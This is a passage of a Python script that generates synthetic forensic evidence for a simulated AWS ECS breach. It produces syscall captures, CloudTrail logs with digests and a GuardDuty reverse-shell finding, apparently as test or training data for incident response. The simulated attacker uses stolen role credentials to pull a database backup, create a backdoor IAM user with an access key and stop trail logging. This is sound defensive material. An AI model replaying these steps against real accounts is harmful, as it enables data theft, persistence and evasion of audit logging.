        clone(t + 4_000_000, hc, hc + 1, 0, (2771, 0, "sh", "/usr/bin/dash", ["/bin/sh", "-c", "curl -fs http://localhost/healthz || exit 1"], "/var/www/html"))
        execve_exit(t + 5_000_000, hc + 1, hc, 0, "/usr/bin/curl", ["curl", "-fs", "http://localhost/healthz"], "/var/www/html", "curl")
        ev(t + 5_400_000, hc + 1, 18, [u32(2), u32(1), u32(0)])
        ev(t + 5_400_100, hc + 1, 19, [p64(5), u32(2), u32(1), u32(0), u32(0)])
        ev(t + 5_500_000, hc + 1, 22, [p64(5), sockaddr("127.0.0.1", 80)])
        ev(t + 5_600_000, hc + 1, 23, [p64(0), socktuple(("127.0.0.1", 38000 + i), ("127.0.0.1", 80)), p64(5), sockaddr("127.0.0.1", 80)])
        ev(t + 8_000_000, hc + 1, 186, [p64(0), p64(0), b"\0", b"\0", p64(0)])
        ev(t + 8_300_000, hc, 186, [p64(0), p64(0), b"\0", b"\0", p64(0)])
    for i in range(80):  # apache workers reading their php files
        t = ts(1320 + rng.randrange(1380), rng.randrange(1_000_000))
        w = rng.choice([2817, 2818, 2819])
        page = rng.choice(["/var/www/html/index.php", "/var/www/html/healthz.php", "/var/www/html/product.php"])
        ev(t, w, 306, [p64(-100), cz(page), u32(1 | (1 << 12)), u32(0)])
        ev(t + 20_000, w, 307, [p64(10), p64(-100), cz(page), u32(1 | (1 << 12)), u32(0), u32(0x2f), u64(rng.randrange(100000, 900000))])
        ev(t + 400_000, w, 4, [p64(10)])
        ev(t + 410_000, w, 5, [p64(0), p64(10)])
    # the attack, as far as it falls in the capture
    flags_ppm = {"O_WRONLY|O_CREAT|O_TRUNC": 2 | 4 | 256, "O_WRONLY|O_CREAT|O_APPEND": 2 | 4 | 8, "O_WRONLY|O_CREAT|O_EXCL": 2 | 4 | 32}
    fd_of_open = {}
    for s in ATTACK:
        if not (SCAP_WINDOW[0] <= s["t"] <= SCAP_WINDOW[1]):
            continue
        pid = s["pid"]
        if s["kind"] == "execve":
            parent = proc_at(s["ppid"], s["t"]) or alive.get(s["ppid"])
            if pid != s["ppid"]:
                clone(s["t"] - 900_000, s["ppid"], pid, s["uid"], parent)
            execve_exit(s["t"], pid, s["ppid"], s["uid"], s["exe"], s["argv"], s["cwd"], s["comm"])
            alive[pid] = (s["ppid"], s["uid"], s["comm"], s["exe"], s["argv"], s["cwd"])
        elif s["kind"] == "connect":
            udp = s.get("proto") == "udp"
            ev(s["t"] - 200_000, pid, 18, [u32(2), u32(2 if udp else 1), u32(0)])
            ev(s["t"] - 199_900, pid, 19, [p64(s["fd"]), u32(2), u32(2 if udp else 1), u32(0), u32(0)])
            ev(s["t"] - 1000, pid, 22, [p64(s["fd"]), sockaddr(*s["raddr"])])
            ev(s["t"], pid, 23, [p64(0), socktuple(s["laddr"], s["raddr"]), p64(s["fd"]), sockaddr(*s["raddr"])])
        elif s["kind"] == "open_write":
            fl = flags_ppm[s["flags"]]
            ev(s["t"] - 15_000, pid, 306, [p64(-100), cz(s["rel"]), u32(fl), u32(s["mode"])])
            ev(s["t"], pid, 307, [p64(s["fd"]), p64(-100), cz(s["rel"]), u32(fl), u32(s["mode"]), u32(0x2f), u64(rng.randrange(100000, 900000))])
            fd_of_open[pid] = s["fd"]
        elif s["kind"] == "unlink":
            ev(s["t"] - 9_000, pid, 302, [])
            ev(s["t"], pid, 303, [p64(0), p64(-100), cz(s["path"]), u32(0)])
        elif s["kind"] == "rename":
            ev(s["t"] - 9_000, pid, 176, [])
            ev(s["t"], pid, 177, [p64(0), p64(-100), cz(s["old"]), p64(-100), cz(s["new"])])
        elif s["kind"] == "exit":
            ev(s["t"], pid, 186, [p64(0), p64(0), b"\0", b"\0", p64(1)])
    for pid in (4301, 4302, 4303, 4305, 4330, 4331, 4360, 4361, 4363, 4370):
        last = max(s["t"] for s in ATTACK if s["pid"] == pid)
        ev(last + 3_500_000, pid, 186, [p64(0), p64(0), b"\0", b"\0", p64(0)])
    evs.sort(key=lambda e: (e[0], e[1]))
    for t, tid, code, params in evs:
        out.write(sc_event(t, tid, code, params))
    return out.getvalue()


# ---------------------------------------------------------------------------------------------
# CloudTrail: the S3 delivery tree of the account's trail, and its digest file

TRAIL = "management-trail"
BUCKET = f"aws-cloudtrail-logs-{ACCOUNT}-3f9a2c1e"


def identity_role(session_name, role, key, creation, role_id=ROLE_ID):
    return {"type": "AssumedRole", "principalId": f"{role_id}:{session_name}",
            "arn": f"arn:aws:sts::{ACCOUNT}:assumed-role/{role}/{session_name}", "accountId": ACCOUNT, "accessKeyId": key,
            "sessionContext": {"sessionIssuer": {"type": "Role", "principalId": role_id,
                                                 "arn": f"arn:aws:iam::{ACCOUNT}:role/{role}", "accountId": ACCOUNT, "userName": role},
                               "attributes": {"creationDate": creation, "mfaAuthenticated": "false"}}}


def ct_record(t, source, name, ident, ip, ua, req=None, resp=None, read_only=None, data=False, extra=None, error=None):
    r = {"eventVersion": "1.10" if data else "1.11", "userIdentity": ident, "eventTime": iso(t), "eventSource": source,
         "eventName": name, "awsRegion": REGION if source != "iam.amazonaws.com" else "us-east-1", "sourceIPAddress": ip,
         "userAgent": ua, "requestParameters": req, "responseElements": resp}
    if error:
        r["errorCode"], r["errorMessage"] = error
    r.update({"requestID": uid4() if not data else alnum(16), "eventID": uid4()})
    if read_only is not None:
        r["readOnly"] = read_only
    if data:
        r["resources"] = extra.pop("resources")
    r.update({"eventType": "AwsApiCall", "managementEvent": not data, "recipientAccountId": ACCOUNT})
    if extra:
        r.update(extra)
    r["eventCategory"] = "Data" if data else "Management"
    if source != "s3.amazonaws.com" or not data:
        r["tlsDetails"] = {"tlsVersion": "TLSv1.3", "cipherSuite": "TLS_AES_128_GCM_SHA256",
                           "clientProvidedHostHeader": f"{source.split('.')[0]}.{REGION}.amazonaws.com"}
    return (t, r)


def build_cloudtrail():
    recs = []
    creation = iso(ts(-80))
    task_id = identity_role(TASK, ROLE, KEY, creation)
    app_ua = "aws-sdk-php/3.325.1 ua/2.0 api/s3#1.0 os/linux#6.1.115-126.197.amzn2023.x86_64 lang/php#8.2.26 m/E,b"
    # (the ECS agent assumed the task role for these credentials at 01:58:40, in an earlier log file)
    # the application reads its assets (S3 data events through the gateway endpoint) and decrypts its config
    for i in range(30):
        t = ts(64 + i * 120, rng.randrange(1_000_000))
        obj = rng.choice(["img/logo.png", "img/banner-winter.jpg", "catalog/products.json", "css/app.css"])
        recs.append(ct_record(t, "s3.amazonaws.com", "GetObject", task_id, TASK_IP, app_ua,
                              {"bucketName": f"app-assets-{ACCOUNT}", "Host": f"app-assets-{ACCOUNT}.s3.{REGION}.amazonaws.com", "key": obj},
                              None, read_only=True, data=True,
                              extra={"resources": [{"type": "AWS::S3::Object", "ARN": f"arn:aws:s3:::app-assets-{ACCOUNT}/{obj}"},
                                                   {"accountId": ACCOUNT, "type": "AWS::S3::Bucket", "ARN": f"arn:aws:s3:::app-assets-{ACCOUNT}"}],
                                     "vpcEndpointId": "vpce-0c1d2e3f4a5b6c7d8",
                                     "additionalEventData": {"SignatureVersion": "SigV4", "CipherSuite": "TLS_AES_128_GCM_SHA256",
                                                             "bytesTransferredIn": 0, "bytesTransferredOut": rng.randrange(2000, 90000),
                                                             "AuthenticationMethod": "AuthHeader", "x-amz-id-2": alnum(56)}}))
    for i in range(6):
        t = ts(300 + i * 600, rng.randrange(1_000_000))
        recs.append(ct_record(t, "kms.amazonaws.com", "Decrypt", task_id, NAT_IP, app_ua.replace("api/s3", "api/kms"),
                              {"encryptionAlgorithm": "SYMMETRIC_DEFAULT"}, None, read_only=True))
        recs[-1][1]["resources"] = [{"accountId": ACCOUNT, "type": "AWS::KMS::Key",
                                     "ARN": f"arn:aws:kms:{REGION}:{ACCOUNT}:key/2b3c4d5e-6f70-4819-a2b3-c4d5e6f70819"}]
    # the container instance: SSM agent heartbeat every five minutes, the ECS agent
    inst = identity_role(INSTANCE, "ecsInstanceRole", "ASIAQNZGKEXAMPLEINS1", iso(ts(-1800)), "AROAQNZGKEXAMPLEINST1")
    inst["sessionContext"]["ec2RoleDelivery"] = "2.0"
    for i in range(12):
        t = ts(i * 300 + 45, rng.randrange(1_000_000))
        recs.append(ct_record(t, "ssm.amazonaws.com", "UpdateInstanceInformation", inst, NAT_IP,
                              "aws-sdk-go/1.55.5 (go1.22.8; linux; amd64) amazon-ssm-agent/3.3.1142.0",
                              {"instanceId": INSTANCE, "agentVersion": "3.3.1142.0", "agentStatus": "Active", "platformType": "Linux",
                               "platformName": "Amazon Linux", "platformVersion": "2023", "iPAddress": INSTANCE_IP,
                               "computerName": HOST, "agentName": "amazon-ssm-agent", "availabilityZone": f"{REGION}a"},
                              None, read_only=False))
    for i in range(4):
        t = ts(i * 900 + 400, rng.randrange(1_000_000))
        recs.append(ct_record(t, "ecs.amazonaws.com", "DiscoverPollEndpoint", inst, NAT_IP,
                              "Go-http-client/1.1 aws-sdk-go-v2/1.32.2 ecs-agent/1.88.0 (3e8b2a7c)",
                              {"containerInstance": f"arn:aws:ecs:{REGION}:{ACCOUNT}:container-instance/{CLUSTER}/5c2f8e1a9b3d4e7f8a0b1c2d3e4f5a6b",
                               "cluster": CLUSTER}, None, read_only=True))
    # another host: the build runner pulls an image and updates the service
    ci = identity_role("gitlab-runner-41", "ci-deploy", "ASIAQNZGKEXAMPLECI001", iso(ts(700)), "AROAQNZGKEXAMPLECI0001")
    for k, (off, src, name, req) in enumerate([
            (705, "ecr.amazonaws.com", "GetAuthorizationToken", None),
            (711, "ecr.amazonaws.com", "BatchGetImage", {"repositoryName": "shop-worker", "imageIds": [{"imageTag": "1.8.0"}], "registryId": ACCOUNT}),
            (730, "ecs.amazonaws.com", "DescribeServices", {"cluster": "prod-worker", "services": ["shop-worker"]}),
            (731, "ecs.amazonaws.com", "UpdateService", {"cluster": "prod-worker", "service": "shop-worker", "forceNewDeployment": True})]):
        recs.append(ct_record(ts(off, rng.randrange(1_000_000)), src, name, ci, CI_IP,
                              "aws-cli/2.22.4 md/awscrt#0.23.1 ua/2.0 os/linux#6.1.0-27-cloud-amd64 md/arch#x86_64 lang/python#3.12.6 exec-env/gitlab-ci cfg/retry-mode#standard md/installer#exe md/distrib#debian.12 md/prompt#off md/command#ecr.get-login-password",
                              req, None, read_only=name != "UpdateService"))
    # the operations team in the console, looking at the alert
    ops = {"type": "AssumedRole", "principalId": "AROAQNZGKEXAMPLEOPS01:maria.ops@example.com",
           "arn": f"arn:aws:sts::{ACCOUNT}:assumed-role/AWSReservedSSO_OpsAdmin_5a1b2c3d4e5f6a7b/maria.ops@example.com",
           "accountId": ACCOUNT, "accessKeyId": "ASIAQNZGKEXAMPLEOPS1",
           "sessionContext": {"sessionIssuer": {"type": "Role", "principalId": "AROAQNZGKEXAMPLEOPS01",
                                                "arn": f"arn:aws:iam::{ACCOUNT}:role/aws-reserved/sso.amazonaws.com/eu-west-1/AWSReservedSSO_OpsAdmin_5a1b2c3d4e5f6a7b",
                                                "accountId": ACCOUNT, "userName": "AWSReservedSSO_OpsAdmin_5a1b2c3d4e5f6a7b"},
                              "attributes": {"creationDate": iso(ts(1260)), "mfaAuthenticated": "false"}}}
    console_ua = "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15"
    for off, src, name, req in [(1268, "guardduty.amazonaws.com", "ListFindings", {"detectorId": "f2c8a1b3d4e5f6a7b8c9d0e1f2a3b4c5", "maxResults": 50}),
                                (1271, "guardduty.amazonaws.com", "GetFindings", {"detectorId": "f2c8a1b3d4e5f6a7b8c9d0e1f2a3b4c5", "findingIds": ["6ac9c2f1e8b44d7f9a3b5c7d9e1f2a4b"]}),
                                (1290, "ec2.amazonaws.com", "DescribeInstances", {"instancesSet": {"items": [{"instanceId": INSTANCE}]}, "filterSet": {}}),
                                (1301, "ssm.amazonaws.com", "StartSession", {"target": INSTANCE})]:
        recs.append(ct_record(ts(off, rng.randrange(1_000_000)), src, name, ops, ADMIN_IP, console_ua, req,
                              {"sessionId": "maria.ops@example.com-0a1b2c3d4e5f6a7b8", "streamUrl": "wss://ssmmessages.eu-west-1.amazonaws.com/v1/data-channel/maria.ops@example.com-0a1b2c3d4e5f6a7b8?role=publish_subscribe&cell-number=AAEAAb",
                               "tokenValue": "Value hidden due to security reasons."} if name == "StartSession" else None,
                              read_only=name not in ("StartSession",)))
    # the stolen key, from outside AWS
    cli = "aws-cli/2.22.4 md/awscrt#0.23.1 ua/2.0 os/linux#6.11.2-amd64 md/arch#x86_64 lang/python#3.12.7 md/pyimpl#CPython cfg/retry-mode#standard md/installer#exe md/distrib#kali.2024 md/prompt#off md/command#"
    attack = [
        (2292, "sts.amazonaws.com", "GetCallerIdentity", None, None, "sts.get-caller-identity", None),
        (2320, "s3.amazonaws.com", "ListBuckets", {"Host": "s3.eu-west-1.amazonaws.com"}, None, "s3.ls", None),
        (2370, "s3.amazonaws.com", "GetObject", {"bucketName": f"shop-db-backups-{ACCOUNT}", "Host": f"shop-db-backups-{ACCOUNT}.s3.eu-west-1.amazonaws.com",
                                                 "key": "nightly/2026-11-22/shop.sql.gz"}, None, "s3.cp", "data"),
        (2458, "iam.amazonaws.com", "CreateUser", {"userName": "backup-svc"},
         {"user": {"path": "/", "userName": "backup-svc", "userId": "AIDAQNZGKEXAMPLEBKP01", "arn": f"arn:aws:iam::{ACCOUNT}:user/backup-svc",
                   "createDate": "Nov 23, 2026, 2:40:58 AM"}}, "iam.create-user", None),
        (2475, "iam.amazonaws.com", "CreateAccessKey", {"userName": "backup-svc"},
         {"accessKey": {"userName": "backup-svc", "accessKeyId": "AKIAQNZGKEXAMPLEBKP1", "status": "Active", "createDate": "Nov 23, 2026, 2:41:15 AM"}},
         "iam.create-access-key", None),
        (2580, "cloudtrail.amazonaws.com", "StopLogging", {"name": f"arn:aws:cloudtrail:{REGION}:{ACCOUNT}:trail/{TRAIL}"}, None,
         "cloudtrail.stop-logging", None),
    ]
    # one refused call first: the stolen role may not list the trails' bucket
    recs.append(ct_record(ts(2341, 310552), "s3.amazonaws.com", "GetBucketAcl", task_id, ATTACKER_API, cli + "s3api.get-bucket-acl",
                          {"bucketName": BUCKET, "Host": f"{BUCKET}.s3.eu-west-1.amazonaws.com", "acl": ""}, None, read_only=True,
                          error=("AccessDenied", "Access Denied")))
    for off, src, name, req, resp, cmd, data in attack:
        if data:
            recs.append(ct_record(ts(off, rng.randrange(1_000_000)), src, name, task_id, ATTACKER_API, cli + cmd, req, None, read_only=True,
                                  data=True, extra={"resources": [{"type": "AWS::S3::Object", "ARN": f"arn:aws:s3:::{req['bucketName']}/{req['key']}"},
                                                                  {"accountId": ACCOUNT, "type": "AWS::S3::Bucket", "ARN": f"arn:aws:s3:::{req['bucketName']}"}],
                                                    "additionalEventData": {"SignatureVersion": "SigV4", "CipherSuite": "TLS_AES_128_GCM_SHA256",
                                                                            "bytesTransferredIn": 0, "bytesTransferredOut": 48211934,
                                                                            "AuthenticationMethod": "AuthHeader", "x-amz-id-2": alnum(56)}}))
        else:
            recs.append(ct_record(ts(off, rng.randrange(1_000_000)), src, name, task_id, ATTACKER_API, cli + cmd, req, resp,
                                  read_only=name in ("GetCallerIdentity", "ListBuckets")))
    recs.sort(key=lambda r: r[0])
    stop = ts(2580, 999999)
    recs = [r for r in recs if r[0] <= stop]  # the trail stops logging: nothing after StopLogging is delivered
    # S3 delivery: one file per region and five minutes of events, delivered a few minutes
    # later; the global services' events (IAM) are delivered under us-east-1. One digest file
    # per region covers the hour's files of that region.
    out = []
    for region in sorted({r["awsRegion"] for _, r in recs}):
        files = []
        for start in range(0, 3600, 300):
            chunk = [r for t, r in recs if ts(start) <= t < ts(start + 300) and r["awsRegion"] == region]
            if not chunk:
                continue
            delivered = ts(start + 300 + 180 + rng.randrange(120))
            stamp = iso(delivered)[:16].replace("-", "").replace(":", "")  # 20261123T0208
            name = f"{ACCOUNT}_CloudTrail_{region}_{stamp}Z_{alnum(16, 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789')}.json.gz"
            body = json.dumps({"Records": chunk}, separators=(",", ":")).encode()
            files.append((f"AWSLogs/{ACCOUNT}/CloudTrail/{region}/2026/11/23/{name}", body, chunk))
        digest_end = ts(3600)
        prefix = f"AWSLogs/{ACCOUNT}/CloudTrail-Digest/{region}/2026/11/23/{ACCOUNT}_CloudTrail-Digest_{region}_{TRAIL}_{REGION}_"
        digest_name = prefix + iso(digest_end).replace("-", "").replace(":", "") + ".json.gz"
        digest = {
            "awsAccountId": ACCOUNT, "digestStartTime": iso(ts(0)), "digestEndTime": iso(digest_end),
            "digestS3Bucket": BUCKET, "digestS3Object": digest_name,
            "digestPublicKeyFingerprint": hexid(32), "digestSignatureAlgorithm": "SHA256withRSA",
            "newestEventTime": files[-1][2][-1]["eventTime"], "oldestEventTime": files[0][2][0]["eventTime"],
            "previousDigestS3Bucket": BUCKET, "previousDigestS3Object": prefix + "20261123T020000Z.json.gz",
            "previousDigestHashValue": hexid(64), "previousDigestHashAlgorithm": "SHA-256", "previousDigestSignature": hexid(512),
            "logFiles": [{"s3Bucket": BUCKET, "s3Object": p, "hashValue": hashlib.sha256(b).hexdigest(), "hashAlgorithm": "SHA-256",
                          "newestEventTime": c[-1]["eventTime"], "oldestEventTime": c[0]["eventTime"]} for p, b, c in files],
        }
        out += [(p, gzip.compress(b, mtime=0)) for p, b, _ in files]
        out.append((digest_name, gzip.compress(json.dumps(digest, separators=(",", ":")).encode(), mtime=0)))
    return out


# ---------------------------------------------------------------------------------------------
# GuardDuty: the finding the service raised, as `aws guardduty get-findings` prints it


def build_guardduty():
    fid = "6ac9c2f1e8b44d7f9a3b5c7d9e1f2a4b"
    detector = "f2c8a1b3d4e5f6a7b8c9d0e1f2a3b4c5"
    uu = {pid: uid4() for pid in (2790, 2817, 4242, 4243, 4245, 4249)}
    first = iso(ts(901, 15930), frac=True)

    def node(pid, name, exe, uid=33):
        return {"startTime": iso(ts(-86000 if pid in (2790, 2817) else 900), frac=True), "namespacePid": CONTAINER_NSPID[pid],
                "userId": uid, "name": name, "pid": pid, "uuid": uu[pid], "executablePath": exe, "euid": uid,
                "parentUuid": uu.get({2817: 2790, 4242: 2817, 4243: 4242, 4245: 4243, 4249: 4245}.get(pid, 0), "")}
    lineage = [node(4245, "sh", "/usr/bin/dash"), node(4243, "sh", "/usr/bin/dash"), node(4242, "sh", "/usr/bin/dash"),
               node(2817, "apache2", "/usr/sbin/apache2"), node(2790, "apache2", "/usr/sbin/apache2", 0)]
    lineage[-1].pop("parentUuid")
    finding = {
        "AccountId": ACCOUNT, "Arn": f"arn:aws:guardduty:{REGION}:{ACCOUNT}:detector/{detector}/finding/{fid}",
        "CreatedAt": iso(GUARDDUTY_AT, frac=True), "Description": "Process sh in task 0f3c9a1e5b7d4c2a8e6f1b3d5c7a9e0f of ECS cluster prod-web made a reverse shell connection to a remote host.",
        "Id": fid, "Partition": "aws", "Region": REGION,
        "Resource": {
            "EcsClusterDetails": {"Name": CLUSTER, "Arn": f"arn:aws:ecs:{REGION}:{ACCOUNT}:cluster/{CLUSTER}", "Status": "ACTIVE",
                                  "ActiveServicesCount": 2, "RegisteredContainerInstancesCount": 3, "RunningTasksCount": 4,
                                  "TaskDetails": {"Arn": TASK_ARN, "DefinitionArn": f"arn:aws:ecs:{REGION}:{ACCOUNT}:task-definition/shop-web:57",
                                                  "Version": "57", "CreatedAt": "2026-11-21T16:02:11.000Z", "StartedAt": "2026-11-21T16:02:40.000Z",
                                                  "StartedBy": "ecs-svc/4821037519624710317", "Group": "service:shop-web", "LaunchType": "EC2",
                                                  "Containers": [{"ContainerRuntime": "docker", "Id": CONTAINER_ID, "Name": CONTAINER_NAME,
                                                                  "Image": IMAGE, "ImagePrefix": f"{ACCOUNT}.dkr.ecr.{REGION}.amazonaws.com",
                                                                  "SecurityContext": {"Privileged": False}}]}},
            "InstanceDetails": {"InstanceId": INSTANCE, "InstanceType": "m6i.large", "AvailabilityZone": f"{REGION}a",
                                "ImageId": "ami-0c9a2b1d3e4f56789", "ImageDescription": "Amazon Linux AMI 2023.0.20241108 x86_64 ECS HVM EBS",
                                "IamInstanceProfile": {"Arn": f"arn:aws:iam::{ACCOUNT}:instance-profile/ecsInstanceRole", "Id": "AIPAQNZGKEXAMPLEINST1"},
                                "InstanceState": "running", "LaunchTime": "2026-11-20T09:14:02.000Z",
                                "NetworkInterfaces": [{"NetworkInterfaceId": "eni-0a1b2c3d4e5f60718", "PrivateDnsName": HOST,
                                                       "PrivateIpAddress": INSTANCE_IP, "SubnetId": "subnet-0a1b2c3d", "VpcId": "vpc-0a1b2c3d",
                                                       "SecurityGroups": [{"GroupId": "sg-0a1b2c3d4e5f60718", "GroupName": "ecs-instances"}]}],
                                "Platform": None, "Tags": [{"Key": "aws:ecs:clusterName", "Value": CLUSTER}]},
            "ResourceType": "ECSCluster"},
        "SchemaVersion": "2.0",
        "Service": {
            "Action": {"ActionType": "NETWORK_CONNECTION",
                       "NetworkConnectionAction": {"Blocked": False, "ConnectionDirection": "OUTBOUND", "Protocol": "TCP",
                                                   "LocalIpDetails": {"IpAddressV4": TASK_IP}, "LocalPortDetails": {"Port": 46122, "PortName": "Unknown"},
                                                   "RemoteIpDetails": {"IpAddressV4": ATTACKER, "Organization": {"Asn": "64500", "AsnOrg": "EXAMPLE-TRANSIT",
                                                                                                                 "Isp": "Example Transit", "Org": "Example Transit"},
                                                                       "Country": {"CountryName": "Netherlands"}, "City": {"CityName": "Amsterdam"},
                                                                       "GeoLocation": {"Lat": 52.3759, "Lon": 4.8975}},
                                                   "RemotePortDetails": {"Port": 4444, "PortName": "Unknown"}}},
            "Archived": False, "Count": 1, "DetectorId": detector, "EventFirstSeen": first, "EventLastSeen": first,
            "ResourceRole": "TARGET", "ServiceName": "guardduty", "FeatureName": "RuntimeMonitoring",
            "AdditionalInfo": {"Value": json.dumps({"agentDetails": {"agentVersion": "v1.7.0", "agentId": uid4()}}, separators=(",", ":")),
                               "Type": "default"},
            "RuntimeDetails": {"Process": {"Name": "sh", "ExecutablePath": "/usr/bin/dash",
                                           "ExecutableSha256": hashlib.sha256(b"dash 0.5.12-2").hexdigest(),
                                           "NamespacePid": CONTAINER_NSPID[4249], "Pwd": "/tmp/.x", "Pid": 4249,
                                           "StartTime": iso(ts(901, 10233), frac=True), "Uuid": uu[4249], "ParentUuid": uu[4245],
                                           "User": "www-data", "UserId": 33, "Euid": 33, "Lineage": lineage},
                               "Context": {}}},
        "Severity": 8, "Title": "A process in ECS task 0f3c9a1e5b7d4c2a8e6f1b3d5c7a9e0f created a reverse shell.",
        "Type": "Execution:Runtime/ReverseShell", "UpdatedAt": iso(GUARDDUTY_AT, frac=True),
    }
    return json.dumps({"Findings": [finding]}, indent=4).encode() + b"\n"


# ---------------------------------------------------------------------------------------------
# The case file

CASE_YAML = f"""# What the evidence cannot say about the hosts it names (backsight --case; see backsight-report(1)).
hosts:
  {HOST}:
    instance_id: {INSTANCE}
    task_arn: {TASK_ARN}
    role: {ROLE}
    # the instance, the task's own ENI and ecs-eth0, and the VPC's NAT gateway: the workload's own addresses
    addresses: [{INSTANCE_IP}, {TASK_IP}, {TASK_BRIDGE_IP}, {NAT_IP}]
"""


def write(path, data):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(data if isinstance(data, bytes) else data.encode())


def main():
    base = sys.argv[1] if len(sys.argv) > 1 else os.path.dirname(os.path.abspath(__file__))
    ev = os.path.join(base, "evidence")
    # fixed order: every builder draws from the one random source
    eth = build_eth0()
    bridge = build_bridge()
    audit = build_audit()
    strace = build_strace()
    scap = build_scap()
    trail = build_cloudtrail()
    gd = build_guardduty()
    write_pcap(os.path.join(ev, "network", "task-eni-eth1.pcap"), eth)
    write_pcapng(os.path.join(ev, "network", "ecs-bridge.pcapng"), bridge, "ecs-bridge",
                 "ECS bridge: the task's ecs-eth0 and the credential endpoint")
    write(os.path.join(ev, "host", "audit.log"), audit)
    write(os.path.join(ev, "host", "apache-2817.trace"), strace)
    write(os.path.join(ev, "host", "ir-20261123-0222.scap"), scap)
    for p, b in trail:
        write(os.path.join(ev, "cloudtrail", p), b)
    write(os.path.join(ev, "guardduty", "finding-6ac9c2f1e8b44d7f9a3b5c7d9e1f2a4b.json"), gd)
    write(os.path.join(base, "case.yaml"), CASE_YAML)


if __name__ == "__main__":
    main()
